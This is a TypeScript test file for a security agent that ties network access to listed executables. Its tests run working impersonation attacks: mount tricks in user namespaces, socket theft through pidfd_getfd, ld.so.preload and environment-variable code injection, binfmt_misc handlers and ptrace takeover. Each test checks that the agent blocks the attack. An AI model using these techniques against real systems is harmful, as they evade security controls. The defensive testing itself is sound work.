/** Section 3: whoever wants to be taken for a listed executable without being it. Each attack works without what stops it. */
import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import {
  copyFileSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmdirSync,
  statSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { dirname, join } from "node:path";
import { test } from "node:test";
import type { EgressRules } from "../../src/api/types.ts";
import { ProcessFlag } from "../../src/gen/abi.gen.ts";
import { CLOCK, readClock } from "../../src/node-agent/ffi/libc.ts";
import { cgroupRoot } from "../../src/node-agent/kernel/mounts.ts";
import { openMap } from "../../src/node-agent/kernel/typed-maps.ts";
import { buildTool } from "../tools/build.ts";
import { Fixture } from "./harness/fixture.ts";
import { bindMount, makeImage, mountOverlay } from "./harness/images.ts";
import { patiently } from "./harness/patience.ts";
import { egress, entry, profile } from "./harness/profiles.ts";

const SERVER = "198.51.100.1";
const RIGHTS: EgressRules = { cidr4: [`${SERVER}/32`], l4: { protocols: ["udp", "tcp"] } };
/** Number of the system call on every architecture: include/uapi/asm-generic/unistd.h. */
const PIDFD_GETFD = 438;
const SEND = `udp4 sendto ${SERVER} 7000 TAG recv`;

const fixture = await Fixture.start("attacked", { apps: ["shop"], startAgent: false });
const shop = fixture.workload("shop");
const app = fixture.program("app");
const stranger = fixture.program("stranger");
const python = fixture.program("python", "/usr/bin/python3");
const bash = fixture.program("bash", "/bin/bash");
const shellScript = fixture.path("bin", "shell-script");
writeFileSync(shellScript, `#!${bash}\ntrue\n`, { mode: 0o755 });
const anyBinary = fixture.program("any-binary");
const listedScript = fixture.path("bin", "script");
writeFileSync(listedScript, `#!${python}\n`, { mode: 0o755 });

makeImage(fixture.path("image"), {
  "opt/app/run": { copyOf: app },
  "srv/other/run": { copyOf: stranger },
});
const root = mountOverlay(fixture.path("overlay"), fixture.path("image"), "redirect_dir=on");

fixture.agent.write(
  profile("shop", [
    ...[app, python, shellScript, listedScript, "/opt/app/run"].map((path) => egress(path, RIGHTS)),
    entry(anyBinary, { egress: RIGHTS }, { binary: "Any" }),
  ]),
);
const [forgedTag, forged] = startForged();
await forged.line("waiting");
await fixture.agent.start();

/** What the kernel side says of the file that a process comes to run: the verbs end by executing `comm`. */
async function flagsOf(verbs: string, comm: string): Promise<number | undefined> {
  using processes = openMap(fixture.agent.pinRoot, "processes");
  const running = fixture.start(shop, stranger, verbs);
  try {
    await running.line("waiting");
    const process = processes.get(running.pid);
    assert.equal(process?.comm, comm);
    return process?.flags;
  } finally {
    await running.kill();
  }
}

/** Change times are as of the last tick of the clock, 100 to 1,000 of them a second. */
const COARSE_CLOCK_MS = 20;

function ownCgroupId(): bigint {
  const [, path] = /^0::(.*)$/m.exec(readFileSync("/proc/self/cgroup", "utf8")) ?? [];
  assert.ok(path !== undefined);
  return statSync(join(cgroupRoot(), path), { bigint: true }).ino;
}

/** Older than the agent, which has to believe the kernel of it. */
function startForged() {
  const tag = fixture.tag();
  return [
    tag,
    fixture.start(shop, stranger, `impersonate ${app} wait timeout 250 ${SEND.replace("TAG", tag)}`),
  ] as const;
}

test("§3 attack: before the agent starts, a process makes the kernel believe that it runs a listed executable", async () => {
  const mark = fixture.agent.events.mark();
  forged.tell();
  assert.equal((await forged.finish()).code, 3);
  await fixture.violation({ reason: "BinaryModified", path: app }, mark);
  assert.deepEqual(await fixture.servers.received(forgedTag), []);
});

test("§3 attack: a folder of the image is renamed to a listed one's name, with its files as they were", async () => {
  await fixture.passes(shop, stranger, `pivot ${root} exec /opt/app/run ${SEND}`);
  renameSync(`${root}/opt/app`, `${root}/opt/before`);
  renameSync(`${root}/srv/other`, `${root}/opt/app`);
  await fixture.stops(shop, stranger, `pivot ${root} exec /opt/app/run ${SEND}`, {
    reason: "BinaryModified",
    path: "/opt/app/run",
  });
});

/** Ways to put another file on a listed path, for root of a user namespace. */
const MOUNTS: Record<string, string> = {
  "a bind mount": `mount --bind ${stranger} ${app}`,
  "a file system in memory": `cp ${stranger} ${fixture.path("copy")} && mount -t tmpfs none ${fixture.path("bin")} && cp ${fixture.path("copy")} ${app}`,
  "an overlay": `mount -t overlay none -o lowerdir=${fixture.path("other")}:${fixture.path("bin")} ${fixture.path("bin")}`,
};
mkdirSync(fixture.path("other"));
copyFileSync(stranger, fixture.path("other", "app"));

/** Overlays in user namespaces are from Linux 5.11 on. */
const mayOverlay =
  spawnSync("unshare", ["-Urm", "mount", "-t", "overlay", "none", "-o", "lowerdir=/usr:/etc", "/mnt"]).status === 0;

for (const [what, command] of Object.entries(MOUNTS)) {
  const skip = what === "an overlay" && !mayOverlay ? "this kernel has no overlays in user namespaces" : false;
  test(`§3 attack: ${what} over a listed path, in a user namespace`, { skip }, async () => {
    const [mark, tag] = [fixture.agent.events.mark(), fixture.tag()];
    const attack = `${command} && exec ${app} timeout 250 ${SEND.replace("TAG", tag)}`;
    const { code, stderr } = await fixture.run(shop, "/usr/bin/unshare", ["-Urm", "sh", "-c", attack]);
    assert.equal(code, 3, stderr);
    await fixture.violation({ reason: "BinaryModified", path: "any" }, mark);
    assert.deepEqual(await fixture.servers.received(tag), []);
  });
}

for (const [family, flags] of [
  ["udp4", "-Urmn"],
  ["tcp4", "-Urmn"],
  ["udp4", "-Urmnpf"],
] as const) {
  test(`§3 attack: another file on a listed path, in namespaces of its own (${flags}), with a socket that a listed process made (${family})`, async () => {
    const victim = fixture.start(shop, app, `${family} connect ${SERVER} 7000 descriptor wait sleep 100`);
    const descriptor = await victim.line(/^\d+$/);
    await victim.line("waiting");
    const [mark, tag] = [fixture.agent.events.mark(), fixture.tag()];
    const attack = `mount --bind ${stranger} ${app} && exec ${app} timeout 250 fd "$0" send ${tag} recv`;
    const thief = [
      "import ctypes, os",
      `taken = ctypes.CDLL(None).syscall(${PIDFD_GETFD}, os.pidfd_open(${victim.pid}), ${descriptor}, 0)`,
      "os.set_inheritable(taken, True)",
      `os.execvp("unshare", ["unshare", "${flags}", "sh", "-c", ${JSON.stringify(attack)}, str(taken)])`,
    ];
    const { code, stderr } = await fixture.run(shop, "/usr/bin/python3", ["-c", thief.join("\n")]);
    victim.tell();
    await victim.finish();
    assert.equal(code, 3, stderr);
    await fixture.violation({ reason: "BinaryModified", path: "any" }, mark);
    assert.deepEqual(await fixture.servers.received(tag), []);
  });
}

const library = fixture.path("library.so");
copyFileSync(buildTool("preload"), library);

/** A folder with the linker and the libraries that the program wants, and one that the linker loads before all others. */
function makeRoot(folder: string, program: string): string {
  for (const file of execFileSync("ldd", [program], { encoding: "utf8" }).match(/\/\S+/g) ?? []) {
    mkdirSync(dirname(join(folder, file)), { recursive: true });
    copyFileSync(file, join(folder, file));
  }
  mkdirSync(join(folder, "etc"), { recursive: true });
  writeFileSync(join(folder, "etc", "ld.so.preload"), "/library.so\n");
  copyFileSync(library, join(folder, "library.so"));
  return folder;
}

test("§3 attack: a listed program's own file is executed in another root directory (chroot), and gets the libraries there", async () => {
  const [mark, tag] = [fixture.agent.events.mark(), fixture.tag()];
  const verbs = `rootexec ${makeRoot(fixture.path("evil-root"), python)} ${python}`;
  const { code, stderr } = await fixture.run(shop, stranger, verbs, { environment: { SERVER, TAG: tag } });
  assert.equal(code, 3, stderr);
  await fixture.violation({ reason: "BinaryModified", path: python }, mark);
  assert.deepEqual(await fixture.servers.received(tag), []);
});

test("§3 attack: the other root directory is that of an overlay in somebody else's mount namespace, made in a user namespace", {
  skip: mayOverlay ? false : "this kernel has no overlays in user namespaces",
}, async () => {
  const [mark, tag] = [fixture.agent.events.mark(), fixture.tag()];
  const lower = makeRoot(fixture.path("evil-lower"), python);
  const mount = `mount -t overlay none -o lowerdir=${lower}:${fixture.path("other")} /mnt && echo $$ && exec sleep 5`;
  const attack = `unshare -Urm sh -c '${mount}' | (read maker; exec ${stranger} rootexec /proc/$maker/root/mnt ${python})`;
  const { code, stderr } = await fixture.run(shop, "/bin/sh", ["-c", attack], {
    environment: { SERVER, TAG: tag, PATH: process.env.PATH },
  });
  assert.equal(code, 3, stderr);
  await fixture.violation({ reason: "BinaryModified", path: python }, mark);
  assert.deepEqual(await fixture.servers.received(tag), []);
});

// The second way leaves the root before it below: a pile, as kernels from 7.0 on have one below every root.
for (const [way, verb] of [
  ["takes the place of the root before it", "pivot"],
  ["lies upon the root before it", "moveroot"],
] as const) {
  test(`§3 a container's root that is no overlay and ${way} is its own, too`, async () => {
    const plain = fixture.path(`plain-${verb}`);
    makeImage(plain, { "opt/app/run": { copyOf: app } });
    bindMount(plain, plain);
    await fixture.passes(shop, stranger, `${verb} ${plain} exec /opt/app/run ${SEND}`);
    const flags = await flagsOf(`${verb} ${plain} exec /opt/app/run wait`, "run");
    assert.equal(flags, 0, "as in a pod, where what is mounted counts");
    mkdirSync(join(plain, "volume"));
    const other = fixture.path(`other-${verb}`);
    makeImage(other, { run: { copyOf: app } });
    bindMount(other, join(plain, "volume"));
    assert.equal(await flagsOf(`${verb} ${plain} exec /volume/run wait`, "run"), ProcessFlag.MOUNTED);
  });
}

test("§3 attack: without an overlay, a listed file is written over after the container's start", async () => {
  using containers = openMap(fixture.agent.pinRoot, "containers");
  const written = fixture.path("written");
  makeImage(written, { "opt/app/run": { copyOf: app } });
  bindMount(written, written);
  const started = readClock(CLOCK.REALTIME);
  await new Promise((settle) => setTimeout(settle, COARSE_CLOCK_MS));
  copyFileSync(stranger, `${written}/opt/app/run`);
  utimesSync(`${written}/opt/app/run`, 0, 0);
  const verbs = `pivot ${written} exec /opt/app/run ${SEND}`;
  // It works where no start is known. The tests' own cgroup stands for a container of which it is.
  await fixture.passes(shop, stranger, verbs);
  containers.set(ownCgroupId(), { started, id: 1, flags: 0, netnsInum: 0 });
  try {
    await fixture.stops(shop, stranger, verbs, { reason: "BinaryModified", path: "/opt/app/run" });
    await fixture.passes(shop, app, SEND);
  } finally {
    containers.delete(ownCgroupId());
  }
});

test("§3 attack: a listed program is started by somebody who answers its system calls (seccomp), and hands it another library", async () => {
  const [mark, tag] = [fixture.agent.events.mark(), fixture.tag()];
  const preload = fixture.path("preload");
  writeFileSync(preload, `${library}\n`);
  const { code, stderr } = await fixture.run(shop, stranger, `supervise ${preload} ${python}`, {
    environment: { SERVER, TAG: tag },
  });
  assert.equal(code, 3, stderr);
  await fixture.violation({ reason: "BinaryModified", path: python }, mark);
  assert.deepEqual(await fixture.servers.received(tag), []);
});

test("§3 attack: a listed program is executed while another process shares its root directory, and can change it", async () => {
  await fixture.stops(shop, stranger, `sharedrootexec ${app} ${SEND}`, { reason: "BinaryModified", path: app });
});

test("§3 attack: a file that has no name yet (O_TMPFILE)", async () => {
  const [mark, tag] = [fixture.agent.events.mark(), fixture.tag()];
  const program = `import os, sys
file = os.open("${fixture.path("bin")}", os.O_TMPFILE | os.O_RDWR, 0o755)
os.write(file, open("${app}", "rb").read())
run = os.open(f"/proc/self/fd/{file}", os.O_RDONLY)
os.close(file)
os.execve(run, sys.argv[1:], {})`;
  const verbs = `${app} timeout 250 ${SEND.replace("TAG", tag)}`.split(" ");
  const { code, stderr } = await fixture.run(shop, "/usr/bin/python3", ["-c", program, ...verbs]);
  assert.equal(code, 3, stderr);
  await fixture.violation({ reason: "BinaryModified", path: "any" }, mark);
  assert.deepEqual(await fixture.servers.received(tag), []);
});

/** User namespaces have handlers of their own from Linux 6.7 on. */
const mayHandle =
  spawnSync("unshare", ["-Urm", "mount", "-t", "binfmt_misc", "none", "/proc/sys/fs/binfmt_misc"]).status === 0;
const noHandlers = mayHandle ? false : "this kernel has no binfmt_misc in user namespaces";

test("§3 attack: a handler of binfmt_misc, in a user namespace, runs in a listed script's place", {
  skip: noHandlers,
}, async () => {
  const [mark, tag] = [fixture.agent.events.mark(), fixture.tag()];
  const rule = `:shebang:M::#!::${stranger}:F`;
  const register = [
    "mount -t binfmt_misc none /proc/sys/fs/binfmt_misc",
    `echo '${rule}' > /proc/sys/fs/binfmt_misc/register`,
    "echo registered",
    "exec sleep 1",
  ].join(" && ");
  const attack = `unshare -m sh -c "${register}" | (read line; exec ${listedScript} sleep 300 timeout 250 ${SEND.replace("TAG", tag)})`;
  const { code, stderr } = await fixture.run(shop, "/usr/bin/unshare", ["-Ur", "sh", "-c", attack]);
  assert.equal(code, 3, stderr);
  await fixture.violation({ reason: "BinaryModified", path: "any" }, mark);
  assert.deepEqual(await fixture.servers.received(tag), []);
});

/** Bash sends, and waits for the answer. */
const SHELL = (tag: string) => `exec 3<>/dev/udp/${SERVER}/7000; echo ${tag} >&3; read -t 1 <&3 && exit 0; exit 3`;
/** What a library's or a start file's place in the environment would make a listed program do. */
const VARIABLES: Record<string, { program: string; verbs?: string; variable: string; code?: (tag: string) => string }> =
  {
    BASH_ENV: { program: shellScript, variable: "BASH_ENV", code: SHELL },
    PYTHONPATH: {
      program: python,
      verbs: "-c 0",
      variable: "PYTHONPATH",
      code: (tag) =>
        `import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(1)\n` +
        `s.sendto(b"${tag}", ("${SERVER}", 7000))\ntry: s.recv(9)\nexcept TimeoutError: os._exit(3)\n`,
    },
    PYTHONUSERBASE: { program: python, verbs: "-c 0", variable: "PYTHONUSERBASE" },
    OPENSSL_CONF: {
      program: python,
      verbs: "-c import\tssl",
      variable: "OPENSSL_CONF",
      code: () =>
        `openssl_conf = init\n[init]\nproviders = all\n[all]\nevil = evil\n[evil]\nmodule = ${library}\nactivate = 1\n`,
    },
    KRB5_CONFIG: {
      program: python,
      verbs: '-c import\tctypes;ctypes.CDLL("libkrb5.so.3").krb5_init_context(ctypes.byref(ctypes.c_void_p()))',
      variable: "KRB5_CONFIG",
      code: () => `module ${library}:none\n`,
    },
    // No listed program here has these libraries: it is the variable that is seen.
    LIBMYSQL_PLUGINS: { program: app, variable: "LIBMYSQL_PLUGINS" },
    LIBMYSQL_PLUGIN_DIR: { program: app, variable: "LIBMYSQL_PLUGIN_DIR" },
    MARIADB_PLUGIN_DIR: { program: app, variable: "MARIADB_PLUGIN_DIR" },
    LD_PRELOAD: { program: app, variable: "LD_PRELOAD" },
    "LD_LIBRARY_PATH, behind 600 other variables": { program: app, variable: "LD_LIBRARY_PATH" },
  };

/** The environment of an attack; the file that its variable names is made. */
function environmentOf(what: string, tag: string): NodeJS.ProcessEnv {
  const attack = VARIABLES[what];
  if (attack === undefined) throw new Error(what);
  const folder = fixture.path(`code-${tag}`);
  mkdirSync(folder);
  const file = join(folder, "sitecustomize.py");
  writeFileSync(file, attack.code?.(tag) ?? "");
  writeUserSite(folder);
  const FILES = {
    BASH_ENV: file,
    KRB5_CONFIG: file,
    OPENSSL_CONF: file,
    LD_PRELOAD: "/lib/x86_64-linux-gnu/libm.so.6",
  };
  const value = FILES[attack.variable as keyof typeof FILES];
  const others = what.includes("behind")
    ? Array.from({ length: 600 }, (_, index) => [`OTHER_${index}`, "x".repeat(9)])
    : [];
  return {
    PATH: process.env.PATH,
    SERVER,
    TAG: tag,
    ...Object.fromEntries(others),
    [attack.variable]: value ?? folder,
  };
}

/** A folder of modules of a user's own, from which Python takes one at each start. */
function writeUserSite(folder: string): void {
  const version = execFileSync(python, ["-c", "import sys; print('%d.%d' % sys.version_info[:2])"], {
    encoding: "utf8",
  });
  const site = join(folder, "lib", `python${version.trim()}`, "site-packages");
  mkdirSync(site, { recursive: true });
  writeFileSync(join(site, "usercustomize.py"), `import ctypes; ctypes.CDLL("${library}")`);
}

for (const [what, { program, verbs }] of Object.entries(VARIABLES)) {
  test(`§3 attack: a listed program is made to run other code by ${what}`, async () => {
    const [mark, tag] = [fixture.agent.events.mark(), fixture.tag()];
    const command = verbs ?? `timeout 250 ${SEND.replace("TAG", tag)}`;
    const { code, stderr } = await fixture.run(shop, program, command, { environment: environmentOf(what, tag) });
    assert.equal(code, 3, stderr);
    await fixture.violation({ reason: "BinaryModified", path: program === shellScript ? bash : program }, mark);
    assert.deepEqual(await fixture.servers.received(tag), []);
  });
}

test("§3 a variable that only begins like one of these says nothing", async () => {
  const environment = { MARIADB_ROOT_HOST: "%", LD_BIND_NOW: "1", PYTHONUNBUFFERED: "1" };
  assert.equal((await fixture.run(shop, app, SEND.replace("TAG", fixture.tag()), { environment })).code, 0);
});

test("§3 binary: Any does not ask how a program was started", async () => {
  const verbs = SEND.replace("TAG", fixture.tag());
  const environment = { LD_LIBRARY_PATH: "/nowhere" };
  assert.equal((await fixture.run(shop, anyBinary, verbs, { environment })).code, 0);
});

test("§3 what a container's first process was started with, its children may be", async () => {
  const environment = { PATH: process.env.PATH, LD_LIBRARY_PATH: "/nowhere" };
  const container = (command: string) =>
    fixture.run(shop, "/usr/bin/unshare", ["-pf", "sh", "-c", `${command}; exit $?`], { environment });
  const send = SEND.replace("TAG", fixture.tag());
  assert.equal((await container(`${app} timeout ${patiently(1000)} ${send}`)).code, 0);
  assert.equal((await container(`LD_PRELOAD=/lib/none.so ${app} timeout 250 ${send}`)).code, 3);
});

test("§3 where containers share a PID namespace, a container's own variables are no sign of anything", async () => {
  const group = join(cgroupRoot(), `${fixture.name}-shared`);
  mkdirSync(group);
  try {
    const start = `LD_LIBRARY_PATH=/nowhere exec ${app} timeout ${patiently(1000)} ${SEND.replace("TAG", fixture.tag())}`;
    const command = `(echo 0 > ${group}/cgroup.procs; exec unshare -m sh -c "${start}"); exit $?`;
    assert.equal((await fixture.run(shop, "/usr/bin/unshare", ["-pf", "sh", "-c", command])).code, 0);
  } finally {
    rmdirSync(group);
  }
});

/** Runs `app` under a tracer that was there from its beginning, or comes while it waits. */
function traced(verbs: string, attach: boolean): string {
  return `import ctypes, os, signal, sys, time
libc = ctypes.CDLL(None)
child = os.fork()
if child == 0:
    if not ${attach ? "True" : "False"}: libc.ptrace(0, 0, 0, 0) # PTRACE_TRACEME
    os.execv("${app}", "${app} ${verbs}".split())
if ${attach ? "True" : "False"}:
    time.sleep(0.2)
    assert libc.ptrace(0x4206, child, 0, 0) == 0 # PTRACE_SEIZE
while True:
    pid, status = os.waitpid(child, 0x40000000)
    if os.WIFEXITED(status): sys.exit(os.WEXITSTATUS(status))
    libc.ptrace(7, child, 0, 0) # PTRACE_CONT`;
}

for (const [when, attach, before] of [
  ["that starts it", false, "udp4"],
  ["that comes later", true, "udp4 sleep 500"],
  ["that comes when it has a connection", true, `udp4 connect ${SERVER} 7000 send x recv sleep 500 send y sleep 100`],
] as const) {
  test(`§3 attack: a tracer ${when} makes a listed program do what it likes`, async () => {
    const [mark, tag] = [fixture.agent.events.mark(), fixture.tag()];
    const send = before.includes("connect") ? `send ${tag} recv` : `sendto ${SERVER} 7000 ${tag} recv`;
    const { code, stderr } = await fixture.run(shop, "/usr/bin/python3", [
      "-c",
      traced(`${before} timeout 250 ${send}`, attach),
    ]);
    assert.equal(code, 3, stderr);
    await fixture.violation({ reason: "BinaryModified", path: app }, mark);
    assert.deepEqual(await fixture.servers.received(tag), []);
  });
}
